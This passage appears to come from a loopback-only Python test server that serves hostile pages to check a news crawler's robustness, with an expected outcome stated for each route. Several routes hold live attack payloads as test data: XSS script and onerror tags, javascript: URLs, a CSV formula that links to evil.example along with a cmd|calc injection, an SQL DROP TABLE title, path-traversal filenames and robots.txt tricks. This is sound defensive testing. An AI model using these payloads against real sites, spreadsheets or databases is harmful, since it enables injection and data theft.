    "texts that hurt naive regexes: long digit runs, spaces, date-like junk"
    await reply(r, page(TITLE, "<p>" + "1" * 100000 + "</p><p>" + " " * 100000 + "x</p><p>" + "20/11/" * 20000 + "</p><p>" + "a@" * 50000 + "</p>" + paras(3)))


@route("/content/table-bomb", "time and memory bounded (trafilatura #658/#665)")
async def _(r):
    "table cells with colspan/rowspan = 10^9"
    await reply(r, page(TITLE, '<table><tr><th colspan="1000000000">x</th></tr><tr><td rowspan="1000000000" colspan="99999999">y</td></tr></table>' + paras(5)))


def _enc(name: str, header: str, meta: str, codec: str, expect: str):
    @route(f"/content/enc-{name}", expect)
    async def _(r, header=header, meta=meta, codec=codec):
        t = "“Pembinaan” – pegawai café Rp1.000 … naïve"
        s = page(t, paras(4) + f"<p>{t}</p>").replace('<meta charset="utf-8">', f'<meta charset="{meta}">' if meta else "")
        await reply(r, s.encode(codec, "replace"), ctype="text/html" + (f"; charset={header}" if header else ""))

    ROUTES[f"/content/enc-{name}"].doc = f"bytes {codec}, header {header or 'none'}, meta {meta or 'none'}"


_enc("utf8-said-latin1", "iso-8859-1", "", "utf-8", "curly quotes right (utf-8 detected)")
_enc("utf8-said-latin1-meta", "iso-8859-1", "utf-8", "utf-8", "curly quotes right")
_enc("cp1252-said-utf8", "utf-8", "utf-8", "cp1252", "no crash; replacement characters counted")
_enc("cp1252-none", "", "", "cp1252", "decoded as cp1252")
_enc("utf16-nobom", "", "", "utf-16-le", "no crash, flagged")
_enc("bogus-name", "utf-9000", "utf-9000", "utf-8", "falls back, no crash")
_enc("utf7", "utf-7", "", "utf-8", "utf-7 never honoured")


@route("/content/nul", "no NUL in the corpus; text after it kept")
async def _(r):
    "NUL bytes in title and body"
    await reply(r, page("BP2MI\x00Pembinaan", paras(3) + "<p>SEBELUM\x00SESUDAH-NUL kata penting</p>" + paras(2)))


@route("/content/control", "control characters stripped; JSON/CSV/XML exports valid")
async def _(r):
    "C0/C1 controls, ESC sequences, VT, FF, U+2028, BOM in text"
    await reply(r, page("BP2MI\x1b[31m Pembinaan", paras(3) + "<p>a\x01b\x08c\x0bd\x0ce\x1b]0;judul\x07f\x7fg\x85h\u2028i\ufeffj</p>" + paras(2)))


@route("/content/surrogate", "stored as valid UTF-8")
async def _(r):
    "lone surrogates as references and as raw bytes, astral emoji"
    await reply(r, page("BP2MI &#xD800; &#x1F600; Pembinaan", paras(3) + "<p>x &#55357; y &#0; z &#x110000; \ud83d 😀</p>" + paras(2)))


@route("/content/bidi", "kept in text, neutralised in titles / terminals / links")
async def _(r):
    "right-to-left override, zero-width and homoglyphs in the title"
    await reply(r, page("BP2MI \u202egpj.exe\u202c P\u0435mbinaan\u200b\u200d Pegawai", paras(5)))


@route("/content/xss", "shown as text everywhere; CSP on; no active link")
async def _(r):
    "script, img onerror, svg in title, author, body, tags"
    x = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    e = html.escape(x)
    ld = json.dumps({"@type": "NewsArticle", "headline": x, "author": {"name": x}}).replace("</", "<\\/")
    await reply(r, page(e, paras(3) + f"<p>{e}</p><p>{e}</p>" + paras(2), f'<meta name="author" content="{e}"><meta name="keywords" content="{e}">'
                        f'<script type="application/ld+json">{ld}</script>'))


@route("/content/js-url", "only http(s) kept as canonical / image / author URL")
async def _(r):
    "canonical, og:url, og:image and links with javascript:/data:"
    await reply(r, page(TITLE, paras(5), '<link rel="canonical" href="javascript:alert(1)"><meta property="og:url" content="javascript:alert(2)"><meta property="og:image" content="data:image/svg+xml,<svg onload=alert(3)>">'))


@route("/content/canonical-offsite", "own URL stays the key; foreign canonical kept as a claim only")
async def _(r):
    "rel=canonical to another site (could overwrite or hide another's article)"
    await reply(r, page(TITLE, paras(5), '<link rel="canonical" href="https://bp2mi.go.id/berita/asli">'))


@route("/content/canonical-home", "not merged: canonical to the home page ignored")
async def _(r):
    "every article says its canonical is / (?id=)"
    await reply(r, page(f"{TITLE} {r.q('id', 0)}", f"<p>Nomor {r.q('id', 0)}.</p>" + paras(5), f'<link rel="canonical" href="{r.base}/">'))


@route("/content/csv-formula", "CSV export is inert in a spreadsheet (or documents it); round-trips")
async def _(r):
    "title beginning =, author +, tag @, body -; quotes, newlines, tabs"
    await reply(r, page('=HYPERLINK("http://evil.example?x="&amp;A1,"klik")', "<p>-2+3+cmd|' /C calc'!A0 " + PARA + "</p>" + paras(4), '<meta name="author" content="+SUM(1,2)"><meta name="keywords" content="@SUM(A1:A9),&#9;=1+1">'))


@route("/content/cookie-wall", "not stored as an article, counted")
async def _(r):
    "200 consent wall"
    await reply(r, page("Kami menghargai privasi Anda", "<p>Kami dan mitra kami menyimpan dan/atau mengakses informasi pada perangkat, seperti cookie, dan memproses data pribadi. Klik setuju untuk melanjutkan membaca berita ini. Anda dapat mengubah pilihan kapan saja.</p><button>Setuju</button>"))


@route("/content/paywall", "stored with a partial flag")
async def _(r):
    "first paragraph then a subscribe wall"
    await reply(r, page(TITLE, f"<p>{PARA}</p><div class=paywall>Berlangganan untuk membaca selengkapnya</div>", '<script type="application/ld+json">{"@type":"NewsArticle","isAccessibleForFree":false}</script>'))


@route("/content/captcha", "host breaker opens; never stored; reported as blocked")
async def _(r):
    "200 'checking your browser' page"
    await reply(r, '<html><head><title>Just a moment...</title></head><body><div id="cf-challenge">Memeriksa peramban Anda sebelum mengakses situs. Enable JavaScript and cookies to continue</div></body></html>')


@route("/content/js-only", "counted 'no text'; hint that the site needs a feed / API")
async def _(r):
    "an app shell without text"
    await reply(r, '<html><head><title>Berita</title></head><body><div id="root"></div><script src="/app.js"></script></body></html>')


@route("/content/pages", "joined, or ?page=all preferred; never three articles")
async def _(r):
    "an article in 3 pages + ?page=all"
    p = r.q("page", "1")
    if p == "all":
        return await reply(r, page(TITLE, paras(9)))
    await reply(r, page(TITLE, f"<p>Halaman {p}.</p>" + paras(3) + "".join(f'<a href="/content/pages?page={i}">{i}</a>' for i in (1, 2, 3, "all"))))


@route("/content/changed", "a new version row, the old one kept; not a duplicate article")
async def _(r):
    "the text is corrected at every view"
    HITS["changed"] += 1
    await reply(r, page(TITLE, paras(5) + f"<p>Ralat versi {HITS['changed']}.</p>"))


@route("/content/clock", "not a new version: only the boilerplate changed")
async def _(r):
    "view counter and clock change, the article does not"
    HITS["clock"] += 1
    await reply(r, page(TITLE, paras(5)).replace("</footer>", f" dilihat {HITS['clock']} kali, {time.time()}</footer>"))


@route("/content/gone", "tombstone: kept or removed by policy, marked gone")
async def _(r):
    "200 the first time, 410 after"
    HITS["gone"] += 1
    await (reply(r, page(TITLE, paras(5))) if HITS["gone"] == 1 else reply(r, b"", "410 Gone"))


@route("/content/noarchive", "policy decides and is recorded with the row (no text in exports)")
async def _(r):
    "X-Robots-Tag noarchive, meta robots noindex/noai, tdm-reservation: 1"
    await reply(r, page(TITLE, paras(5), '<meta name="robots" content="noindex,noarchive,noai"><meta name="tdm-reservation" content="1">'), extra=[("X-Robots-Tag", "noarchive, noai"), ("tdm-reservation", "1")])


@route("/content/pii", "exports can redact; NIK / phone / passport patterns found")
async def _(r):
    "NIK, phone, passport, bank account, e-mail of a migrant worker"
    await reply(r, page("Kisah PMI Korban TPPO", paras(2) + "<p>Korban berinisial SN (NIK 5371014505900003, paspor C1234567, HP 0812-3456-7890, rekening BRI 0012-01-012345-50-1, surel sn@contoh.id) tinggal di Kupang.</p>" + paras(2)))


_DATES = {"future": "2099-01-01T00:00:00Z", "epoch": "1970-01-01T00:00:00Z", "zero": "0000-00-00 00:00:00", "junk": "Senin, kemarin", "ambiguous": "03/04/2023", "huge": "9" * 5000, "neg": "-2023-11-20", "tz": "2023-11-20T23:30:00-11:00", "id": "Senin, 20 Nopember 2023 | 10:00 WIB", "rel": "2 jam yang lalu"}


@route("/content/date", "future/zero/junk become NULL with a reason; raw string kept; WIB/WITA/WIT right")
async def _(r):
    "published_time = ?k= one of " + ", ".join(_DATES)
    await reply(r, page(TITLE, paras(5), date=_DATES.get(r.q("k", "future"), r.q("k", ""))))


ROUTES["/content/date"].doc = "published_time = ?k= one of " + ", ".join(_DATES)


@route("/content/jsonld-bomb", "no crash, time bounded")
async def _(r):
    "JSON-LD nested 100,000 deep, and one broken block"
    await reply(r, page(TITLE, paras(5), f'<script type="application/ld+json">{"[" * 100000}{"]" * 100000}</script><script type="application/ld+json">{{"@type": "NewsArticle", "headline": </script>'))


@route("/content/pdf-as-html", "not stored as an article; counted by type")
async def _(r):
    "PDF bytes as text/html"
    await reply(r, b"%PDF-1.7\n" + bytes(range(256)) * 400)


@route("/content/html-as-pdf", "skipped by type (or sniffed), counted")
async def _(r):
    "an article sent as application/pdf"
    await reply(r, page(TITLE, paras(5)), ctype="application/pdf")


@route("/content/no-type", "sniffed, stored")
async def _(r):
    "no Content-Type at all"
    await reply(r, page(TITLE, paras(5)), ctype="")


@route("/content/exe", "not stored, not written to disk under the server's name")
async def _(r):
    "binary attachment; filename=../../../../tmp/evil.sh"
    await reply(r, b"MZ" + b"\0" * 5000, ctype="application/octet-stream", extra=[("Content-Disposition", 'attachment; filename="../../../../tmp/evil.sh"')])


@route("/content/path/", "URL never becomes a file path outside the data dir", exact=False)
async def _(r):
    "an article at a URL with ../ and %2e%2e%2f"
    await reply(r, page(TITLE, paras(5)))


@route("/content/malay", "language not 'id' by rule of thumb alone: confidence kept")
async def _(r):
    "a Malay text"
    await reply(r, page("Kementerian Sumber Manusia bincang pekerja asing", "<p>Kerajaan Malaysia melalui Kementerian Sumber Manusia sedang berbincang mengenai pengambilan pekerja asing, kata menteri dalam sidang media di sini hari ini. Beliau berkata majikan perlu mematuhi peraturan dan membayar levi yang ditetapkan.</p>" * 4, lang="ms"))


@route("/content/sql", "stored as text; every query parameterised")
async def _(r):
    "SQL and FTS syntax in the title"
    await reply(r, page("'); DROP TABLE articles;-- \" OR NEAR(a b) AND NOT * ^x:", paras(5)))


# ------------------------------------------------------------------- robots
ROBOTS_OK = "User-agent: *\nDisallow: /private/\nAllow: /\nSitemap: /disc/sitemap-loop-a.xml\n"


@route("/private/", "never requested when robots.txt is obeyed", exact=False)
async def _(r):
    "disallowed by the good robots.txt"
    await reply(r, page("Rahasia", "<p>PRIVATE-PAGE " + PARA * 3 + "</p>"))


@route("/robots.txt", "RFC 9309: 4xx = allow; 5xx / unreachable = disallow all; at least 500 KiB parsed; cached <= 24 h")
async def _(r):
    "depends on the loopback address dialled (see module docstring); ?mode= too"
    mode = r.query.get("mode") or ("inward" if r.host.startswith("inward.") else "") or {"127.0.1.1": "500", "127.0.1.2": "403", "127.0.1.3": "hang", "127.0.1.4": "huge", "127.0.1.5": "deny", "127.0.1.6": "delay", "127.0.1.7": "garbage", "127.0.1.8": "loop", "127.0.1.9": "404",
                                   "127.0.1.10": "429", "127.0.1.11": "away", "127.0.1.12": "html", "127.0.1.13": "cr", "127.0.1.14": "reset", "127.0.1.15": "slow"}.get(r.local, "ok")
    t = "text/plain"
    if mode in ("500", "403", "404", "429"):
        return await reply(r, "User-agent: *\nDisallow:\n", f"{mode} X", ctype=t)
    if mode == "hang":
        return await asyncio.sleep(86400)
    if mode == "slow":
        await send(r.w, head("200 OK", [("Content-Type", t)]))
        for b in itertools.cycle(b"User-agent: *\nDisallow: /\n"):
            await send(r.w, bytes([b]))
            await asyncio.sleep(1)
    if mode == "huge":
        return await reply(r, "User-agent: *\n" + "".join(f"Disallow: /x{i}/*a*b*c*$\n" for i in range(400000)) + "Disallow: /private/\n", ctype=t)
    if mode == "deny":
        return await reply(r, "User-agent: *\nDisallow: /\n", ctype=t)
    if mode == "delay":
        return await reply(r, "User-agent: *\nCrawl-delay: 3\nDisallow: /private/\n", ctype=t)
    if mode == "garbage":
        return await reply(r, bytes(range(256)) * 40 + b"\nUser-agent: *\nDisallow: /private/\n", ctype=t)
    if mode == "loop":
        return await redirect(r, f"/robots.txt?mode=loop&n={r.q('n', 0) + 1}")
    if mode == "away":
        return await redirect(r, f"http://127.0.1.5:{r.port}/robots.txt")
    if mode == "inward":  # inside netns.sh only: the name leads to the intranet
        return await redirect(r, "http://rebind.example/robots.txt")
    if mode == "html":
        return await reply(r, page("Beranda", paras(3)))
    if mode == "cr":
        return await reply(r, b"\xef\xbb\xbfUser-agent: *\rDisallow: /private/\r", ctype=t)
    if mode == "reset":
        return r.w.transport.abort()
    await reply(r, ROBOTS_OK, ctype=t)


# -------------------------------------------------------------------- admin
@route("/_index", "")
async def _(r):
    "this table as JSON"
    await reply(r, json.dumps([{"path": x.prefix, "group": x.group, "what": x.doc, "expect": x.expect} for x in ROUTES.values()], indent=1), ctype="application/json")


@route("/_log", "")
async def _(r):
    "every request seen: t, local, host, path, target, ua, headers"
    await reply(r, json.dumps(LOG), ctype="application/json")


@route("/_reset", "")
async def _(r):
    "forget log and counters (POST)"
    if r.method != "POST":
        return await reply(r, "POST", "405 Method Not Allowed")
    LOG.clear()
    HITS.clear()
    await reply(r, "ok", ctype="text/plain")


@route("/_stop", "")
async def _(r):
    "end the server (POST)"
    if r.method != "POST":
        return await reply(r, "POST", "405 Method Not Allowed")
    await reply(r, "bye", ctype="text/plain")
    STOP.set()


@route("/", "")
async def _(r):
    "a harmless home page: one link to the honest listing (the menu of behaviours is /_menu)"
    await reply(r, page("Beranda", '<a href="/disc/listing">Berita</a>'))


@route("/_menu", "")
async def _(r):
    "links to everything (for a human)"
    await reply(r, "<html><title>evil</title><ul>" + "".join(f'<li><a href="{p}">{p}</a> {html.escape(x.doc)}</li>' for p, x in ROUTES.items()) + "</ul></html>")


def find(path: str) -> Route | None:
    if path in ROUTES:
        return ROUTES[path]
    best = [x for x in ROUTES.values() if not x.exact and path.startswith(x.prefix)]
    return max(best, key=lambda x: len(x.prefix)) if best else None


async def serve_one(reader: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
    try:
        raw = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 30)
        line, *rest = raw.decode("latin-1").split("\r\n")
        method, target, _ = line.split(" ", 2)
        headers = {k.strip().lower(): v.strip() for k, _, v in (h.partition(":") for h in rest if ":" in h)}
        body = await reader.readexactly(int(headers.get("content-length", 0) or 0))
        u = urlsplit(target)
        host = u.netloc or headers.get("host", "127.0.0.1")
        local, port = w.get_extra_info("sockname")[:2]
        path = MAP.get(host.split(":")[0], "") + unquote(u.path or "/", "latin-1")
        r = Req(method, target, path, {k: v[-1] for k, v in parse_qs(u.query, keep_blank_values=True).items()}, headers, body, w.get_extra_info("peername")[0], local, port, host, w=w)
        if not path.startswith("/_"):
            LOG.append({"t": time.time(), "local": local, "host": host, "path": path, "target": target, "ua": headers.get("user-agent", ""), "headers": headers})
        rt = find(path)
        if rt is None:
            await reply(r, page("404", "<p>Tidak ada</p>"), "404 Not Found")
        else:
            r.rest = path[len(rt.prefix):]
            await rt.fn(r)
    except (ConnectionError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, asyncio.TimeoutError, ValueError):
        pass
    finally:
        try:
            w.close()
        except Exception:
            pass


async def amain(a: argparse.Namespace) -> None:
    hosts = ["127.0.0.1", "127.0.0.2"] + [f"127.0.1.{i}" for i in range(1, 16)] + [f"127.0.2.{i}" for i in range(1, 251)]
    server = await asyncio.start_server(serve_one, hosts if not a.host else a.host, a.port, limit=4 * MiB)
    print(f"evil server on {server.sockets[0].getsockname()} ({len(ROUTES)} paths)", flush=True)
    loop = asyncio.get_running_loop()
    for s in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(s, STOP.set)
    await STOP.wait()
    server.close()


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--port", type=int, default=8099)
    p.add_argument("--host", help="bind only this loopback address (default: 127.0.0.1, .0.2 and 127.0.1.1-15)")
    p.add_argument("--any", action="store_true", help="bind 0.0.0.0; refused unless the machine has only a loopback interface (see netns.sh)")
    p.add_argument("--map", action="append", default=[], metavar="HOST=PREFIX")
    p.add_argument("--plugin", action="append", default=[], metavar="FILE.py", help="a file that registers more paths with route() (our hidden cases)")
    p.add_argument("--list", action="store_true")
    a = p.parse_args()
    for f in a.plugin:
        exec(compile(open(f).read(), f, "exec"), globals())
    if a.list:
        for x in ROUTES.values():
            print(f"{x.prefix:34} {x.doc}\n{'':36}-> {x.expect}")
        return
    if a.host and not a.host.startswith("127."):
        sys.exit("loopback only")
    if a.any:
        import socket

        if {n for _, n in socket.if_nameindex()} != {"lo"}:
            sys.exit("--any only inside a namespace that has no interface but lo")
        a.host = "0.0.0.0"
        global ISOLATED
        ISOLATED = True
    MAP.update(m.split("=", 1) for m in a.map)
    asyncio.run(amain(a))


if __name__ == "__main__":
    main()
